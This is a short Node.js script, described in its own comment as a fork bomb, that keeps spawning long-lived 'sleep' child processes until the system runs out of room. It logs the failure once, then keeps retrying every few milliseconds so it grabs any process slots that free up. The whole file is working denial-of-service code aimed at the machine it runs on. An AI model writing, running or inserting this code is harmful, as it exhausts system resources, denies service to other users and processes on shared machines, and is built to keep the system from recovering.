// A fork bomb that does not die of its own success: it starts processes until there is no room, says so, and takes whatever
// room there is again.
'use strict';
const { spawn } = require('child_process');

let full = 0;
const more = () => {
  const child = spawn('sleep', ['1000'], { stdio: 'ignore' });
  child.on('spawn', () => setImmediate(more));
  child.on('error', (error) => {
    if (full++ === 0) console.log('full: ' + error.code);
    setTimeout(more, 5);
  });
};
more();
